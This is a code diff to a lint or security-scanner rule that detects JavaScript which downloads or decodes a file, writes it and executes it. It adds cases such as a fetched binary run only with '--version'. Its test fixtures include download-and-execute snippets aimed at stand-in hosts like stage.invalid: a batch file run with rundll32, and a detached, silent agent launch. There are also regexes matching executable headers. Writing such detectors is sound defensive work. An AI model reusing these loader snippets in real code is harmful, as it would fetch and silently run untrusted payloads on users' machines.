@@ -1,8 +1,10 @@
+import { isPath, isStart, onlyAsks, type Path, pathOf } from '../src/define/paths.js';
+import { checksSum } from '../src/define/sums.js';
 import { defineRule, spelling, step, stepsOf } from '../src/define.js';
-import type { Call, FileContext, Label } from '../src/types.js';
+import type { AnyNode, Call, FileContext, Label } from '../src/types.js';
 import { deedsOf, HARMFUL } from '../src/vocabulary/deeds.js';
 import { languageOf, scriptDeeds } from '../src/vocabulary/scripts.js';
-import { oddRelease } from '../src/vocabulary/services.js';
+import { oddRelease, PROJECT_RELEASES } from '../src/vocabulary/services.js';
 
 export default defineRule({
   meta: {
@@ -17,6 +19,7 @@ export default defineRule({
       program: 'Decodes a program of the system ({source}), writes it as {path} and runs it',
       verified: 'Downloads a file with {source}, checks a sum, writes it as {path} and runs it',
       release: 'Downloads a release with {source}, writes it as {path} and runs it',
+      tried: 'Downloads a file with {source}, writes it as {path} and asks it for its version',
       decoded: 'Decodes a file ({source}), writes it as {path} and runs it',
       code: 'Decodes code ({source}), writes it as {path} and runs it',
       packed: 'Decodes a file that was encoded more than once, writes it as {path} and runs it',
@@ -30,6 +33,7 @@ export default defineRule({
       stranger: 13.5,
       verified: 1.5,
       release: 5,
+      tried: 3,
       decoded: 9,
       code: 11,
       packed: 13.5,
@@ -67,6 +71,10 @@ export default defineRule({
         code: `const fs = require('fs'), { exec } = require('child_process');\nconst lines = '@echo off\\ncurl -o a.tmp https://stage.invalid/a\\nrename a.tmp a.dll\\nrundll32 a.dll,Run';\nfs.writeFile('a.bat', lines, () => exec('"a.bat"'));`,
       },
       {
+        title: 'a driver is fetched and asked for its version',
+        code: `const fs = require('fs'), cp = require('child_process'), file = __dirname + '/driver.exe';\nfetch('https://files.invalid/driver.exe').then(r => r.arrayBuffer()).then(bytes => {\n  fs.writeFileSync(file, Buffer.from(bytes));\n  cp.spawn(file, ['--version']);\n});`,
+      },
+      {
         title: 'what was fetched runs on by itself, without a word',
         code: `const fs = require('fs'), os = require('os'), path = require('path'), { spawn } = require('child_process');\n(async () => {\n  const file = path.join(os.tmpdir(), 'agent-' + os.arch());\n  const bytes = await (await fetch('https://stage.invalid/' + os.platform())).arrayBuffer();\n  fs.writeFileSync(file, Buffer.from(bytes), { mode: 0o755 });\n  spawn(file, [], { detached: true, stdio: 'ignore' }).unref();\n})();`,
       },
@@ -93,18 +101,31 @@ export default defineRule({
         code: `const fs = require('fs'), cp = require('child_process');\nfetch('https://releases.invalid/tool.tar.gz').then(r => r.arrayBuffer()).then(bytes => {\n  fs.writeFileSync('/tmp/tool.tar.gz', Buffer.from(bytes));\n  cp.spawnSync('tar', ['-xzf', '/tmp/tool.tar.gz']);\n});`,
       },
       {
+        title: 'the name of the file is the last part of an address, and another file is loaded',
+        code: `const fs = require('fs'), path = require('path'), helper = require('./lib/tool');\nfetch('https://releases.invalid/1/tool-1.tar.bz2').then(r => r.arrayBuffer()).then(bytes => {\n  fs.writeFileSync(path.join('tmp', 'tool', 'https://releases.invalid/1/tool-1.tar.bz2'.split('/').pop()), Buffer.from(bytes));\n  helper.done();\n});`,
+      },
+      {
+        title: 'a folder that was fetched into is where another program is started',
+        code: `const fs = require('fs'), cp = require('child_process'), folder = 'work/part';\nfetch('https://a.invalid').then(r => r.text()).then(text => fs.writeFileSync(folder, text));\ncp.spawnSync('git', ['status'], { cwd: folder, env: { PART: folder } });`,
+      },
+      {
+        title: 'two functions call what they are given the same',
+        code: `const fs = require('fs'), cp = require('child_process');\nexports.save = (file, url) => fetch(url).then(r => r.text()).then(text => fs.writeFileSync(file, text));\nexports.start = file => cp.spawn(file, []);`,
+      },
+      {
         title: 'something else is started',
         code: `const fs = require('fs'), cp = require('child_process');\nfetch('https://a.invalid').then(r => r.text()).then(t => fs.writeFileSync('data.json', t));\ncp.execSync('git status');`,
       },
     ],
   },
   file(context) {
-    const runs = runsOf(context).filter(call => !unpacks(context, call));
+    const runs = runsOf(context);
     if (runs.length === 0) return;
     // Whoever compares a digest of what came in had it published beforehand.
-    const checks = context.named(/^crypto\.createHash\(\).*\.digest$/).length > 0;
+    const checks = checksSum(context);
     for (const { path, label, call, script, from } of drops(context)) {
-      const run = runs.find(one => one.node !== call.node && one.args.some(arg => mentions(context, arg, path, one)));
+      const starts = runs.filter(one => one.node !== call.node && isStart(context, one, path));
+      const run = starts.find(one => !onlyAsks(context, one)) ?? starts[0];
       if (!run) continue;
       const address =
         from === undefined ? (label?.kind === 'remote' ? releaseOf(context, label) : undefined) : oddRelease(from);
@@ -112,14 +133,16 @@ export default defineRule({
         messageId: script
           ? 'script'
           : label
-            ? messageOf(context, label, path, address, checks, run, call)
+            ? messageOf(context, label, path, address, checks, run)
             : address
               ? 'stranger'
               : checks
                 ? 'verified'
-                : RELEASES.test(from ?? '')
+                : PROJECT_RELEASES.test(from ?? '')
                   ? 'release'
-                  : 'downloaded',
+                  : onlyAsks(context, run)
+                    ? 'tried'
+                    : 'downloaded',
         data: { source: label?.detail ?? call.name, path: path.shown, address: address ?? '', says: script ?? '' },
         chain: [
           ...(label ? stepsOf(label) : []),
@@ -138,16 +161,17 @@ function messageOf(
   address: string | undefined,
   checks: boolean,
   run: Call,
-  call: Call,
 ): string {
-  if (label.kind !== 'remote' && isNative(context, call)) return 'program';
+  if (label.kind !== 'remote' && isNative(context, label)) return 'program';
   if (label.kind !== 'remote' && isTwice(label)) return 'packed';
   if (label.kind !== 'remote') return path.texts.some(text => SCRIPT.test(text)) ? 'code' : 'decoded';
   if (checks) return 'verified';
   if (address) return 'stranger';
   if (isRelease(context, label)) return 'release';
+  if (isUnseen(context, run)) return 'unseen';
+  if (onlyAsks(context, run)) return 'tried';
   if (/^(?:require|Module\._load)$/.test(run.name)) return 'loaded';
-  return isUnseen(context, run) ? 'unseen' : 'downloaded';
+  return 'downloaded';
 }
 
 /** Detached from its parent and with nothing to say: installers wait for what they start and show it. */
@@ -160,10 +184,10 @@ function isUnseen({ file }: FileContext, { node, args }: Call): boolean {
 /** The beginnings of programs for the common systems, in base64 and hex. */
 const PROGRAM = /^(?:TV[opqr][A-Q]|f0VMR|z\/rt\/|yv66vg|4d5a9000|7f454c46|cffaedfe)/i;
 
-function isNative({ calls, named, textsOf }: FileContext, { args }: Call): boolean {
-  return [...named(/^Buffer(?:\.from)?$/), ...named('atob'), ...calls('write')]
-    .flatMap(one => (one.args === args ? [] : one.args.slice(0, 1)))
-    .some(arg => textsOf(arg).some(text => text.length > 100 && PROGRAM.test(text)));
+function isNative({ file, textsOf }: FileContext, { origin }: Label): boolean {
+  const [encoded] = (origin.node as { arguments?: readonly AnyNode[] }).arguments ?? [];
+  if (!encoded || origin.file !== file) return false;
+  return textsOf(encoded).some(text => text.length > 100 && PROGRAM.test(text));
 }
 
 const SCRIPT = /\.(?:[cm]?js|bat|cmd|ps1|vbs|sh|py)$/i;
@@ -190,31 +214,12 @@ function releaseOf(context: FileContext, { origin }: Label): string | undefined 
     .find(Boolean);
 }
 
-/** A project's page of releases, with whose name on it. */
-const RELEASES = /^https:\/\/github\.com\/[\w.-]+\/[\w.-]+\/releases\//;
-
 function isRelease(context: FileContext, { origin }: Label): boolean {
   const addresses = context
     .calls('network')
     .filter(call => call.node === origin.node)
     .flatMap(({ args: [address] }) => (address ? context.textsWithin(address) : []));
-  return addresses.length > 0 && addresses.every(text => RELEASES.test(text) || context.isOwnAddress(text));
-}
-
-/** Programs that unpack, check or mark a file, and do not run it. */
-const UNPACKERS =
-  /^(?:.*[\\/])?(?:tar|bsdtar|unzip|gunzip|7z[az]?|hdiutil|dpkg|rpm|chmod|chown|xattr|codesign|shasum|sha256sum|file|lipo|icacls|Expand-Archive)(?:\.exe)?(?:\s|$)/i;
-
-function unpacks({ textsOf }: FileContext, { args: [program] }: Call): boolean {
-  const texts = program ? textsOf(program) : [];
-  return texts.length > 0 && texts.every(text => UNPACKERS.test(text) && !/[;&|]/.test(text));
-}
-
-interface Path {
-  readonly shown: string;
-  readonly texts: readonly string[];
-  /** The variables that hold it. */
-  readonly names: readonly string[];
+  return addresses.length > 0 && addresses.every(text => PROJECT_RELEASES.test(text) || context.isOwnAddress(text));
 }
 
 interface Drop {
@@ -252,7 +257,8 @@ function drops(context: FileContext): readonly Drop[] {
     const parts = [...call.args, ...(call.receiver ? [call.receiver] : [])];
     const label = strangest(parts.flatMap(part => context.labelsOf(part)));
     const written = parts.some(part => context.namesOf(part).some(name => name.includes('createWriteStream')));
-    const stream = streams[0];
+    const stream =
+      streams.length === 1 ? streams[0] : streams.find(one => parts.some(part => isStream(context, part, one)));
     if (label && written && stream?.args[0]) found.push({ path: pathOf(context, stream.args[0]), label, call: stream });
   }
   // `download(url, folder)` keeps the address's last part as the name.
@@ -260,7 +266,8 @@ function drops(context: FileContext): readonly Drop[] {
     const [address, folder] = call.args;
     const names = (address ? context.textsOf(address) : []).map(baseOf).filter(name => name.length > 3);
     const [label] = context.labelsOf(call.node).filter(({ kind }) => kind === 'remote');
-    if (label && folder) found.push({ path: { shown: names[0] ?? 'a file', texts: names, names: [] }, label, call });
+    if (label && folder)
+      found.push({ path: { shown: names[0] ?? 'a file', texts: names, node: undefined }, label, call });
   }
   found.push(...fetchedByShell(context));
   return [...found, ...moved(context, found.slice(0, 100))];
@@ -283,7 +290,7 @@ function fetchedByShell(context: FileContext): readonly Drop[] {
         /\.(?:tar|t?gz|zip|xz|bz2|json|txt|html?)$/i.test(path)
       )
         return [];
-      return [{ path: { shown: path, texts: [path], names: [] }, label: undefined, call, from }];
+      return [{ path: { shown: path, texts: [path], node: undefined }, label: undefined, call, from }];
     });
   });
 }
@@ -295,7 +302,7 @@ function moved(context: FileContext, found: readonly Drop[]): readonly Drop[] {
   );
   return moves.slice(0, 100).flatMap((move): readonly Drop[] => {
     const [from, to] = move.args;
-    const drop = from && to && found.find(({ path }) => mentions(context, from, path));
+    const drop = from && to && found.find(({ path }) => isPath(context, from, path));
     return drop ? [{ ...drop, path: pathOf(context, to as Call['node']) }] : [];
   });
 }
@@ -313,6 +320,23 @@ function harmOf(context: FileContext, data: Call['node'], path: Path): string | 
   return deeds.find(({ deed }) => HARMFUL.has(deed))?.says;
 }
 
+function baseOf(path: string): string {
+  return path.slice(Math.max(path.lastIndexOf('/'), path.lastIndexOf('\\')) + 1);
+}
+
+/** True for a stream where it is made, or the variable that it is put into. */
+function isStream({ parentOf }: FileContext, node: AnyNode, { node: made }: Call): boolean {
+  if (node === made) return true;
+  const holder = parentOf(made);
+  const name =
+    holder?.type === 'VariableDeclarator'
+      ? holder.id
+      : holder?.type === 'AssignmentExpression'
+        ? holder.left
+        : undefined;
+  return name?.type === 'Identifier' && node.type === 'Identifier' && name.name === node.name;
+}
+
 /** What came from another machine says more than how it was packed. */
 function strangest(labels: readonly Label[]): Label | undefined {
   return (
@@ -325,32 +349,4 @@ function strangest(labels: readonly Label[]): Label | undefined {
 /** Packed in one code and that in another. */
 function isTwice({ kind, through }: Label): boolean {
   return kind === 'decoded' && through.some(({ says }) => says.startsWith('decodes '));
-}
-
-function pathOf(context: FileContext, node: Call['args'][number]): Path {
-  const texts = context.textsOf(node).filter(text => text.replaceAll('…', '').length > 2);
-  return { shown: texts[0] ?? 'a file', texts, names: node.type === 'Identifier' ? [node.name] : [] };
-}
-
-function baseOf(path: string): string {
-  return path.slice(Math.max(path.lastIndexOf('/'), path.lastIndexOf('\\')) + 1);
-}
-
-/** True when a command runs the path: its text holds the file's name, or the same variable is in it. */
-function mentions(context: FileContext, node: Call['args'][number], path: Path, run?: Call): boolean {
-  const commands = context.textsWithin(node);
-  // Data is loaded, too.
-  if (
-    run &&
-    /^(?:require|import|Module\._load)$/.test(run.name) &&
-    [...commands, ...path.texts].some(text => /\.(?:json|node)$/i.test(text))
-  )
-    return false;
-  const bases = path.texts.map(baseOf).filter(base => base.length > 3 && base !== '…');
-  const whole = path.texts.filter(text => text.length > 3 && !text.includes('…'));
-  if ([...bases, ...whole].some(base => commands.some(command => command.includes(base)))) return true;
-  const written = spelling(context.file, node);
-  if (written.length >= 2_000) return false;
-  const words = new Set(written.split(/[^\p{ID_Continue}$]+/u));
-  return path.names.some(name => words.has(name));
 }
